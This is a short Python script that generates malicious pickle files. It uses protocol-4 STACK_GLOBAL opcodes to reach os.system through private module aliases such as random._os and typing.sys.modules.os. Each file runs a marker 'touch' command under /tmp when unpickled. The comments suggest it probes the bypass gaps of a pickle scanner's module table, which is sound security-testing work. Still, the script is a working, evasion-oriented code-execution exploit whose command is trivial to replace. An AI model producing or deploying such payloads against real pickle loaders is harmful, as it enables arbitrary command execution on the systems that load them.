# Protocol-4 STACK_GLOBAL names that reach os.system through a module's private alias of os
# (random._os, tempfile._os is in TABLE already): the dotted search only starts at TABLE modules.
import sys
def sg(mod, name, cmd, tag):
    enc = lambda s: b"\x8c" + bytes([len(s)]) + s.encode()
    return b"\x80\x04" + enc(mod) + enc(name) + b"\x93" + enc(cmd.replace("X", tag)) + b"\x85R."
cases = {
 "random_os": ("random", "_os.system"),
 "collections_sys": ("collections", "_sys.modules.os.system"),
 "typing_sys": ("typing", "sys.modules.os.system"),
 "locale_os": ("locale", "_os.system") ,
}
for tag, (m, n) in cases.items():
    open(f"alias_{tag}.pkl", "wb").write(sg(m, n, "touch /tmp/r36b/PWNED_alias_X", tag))
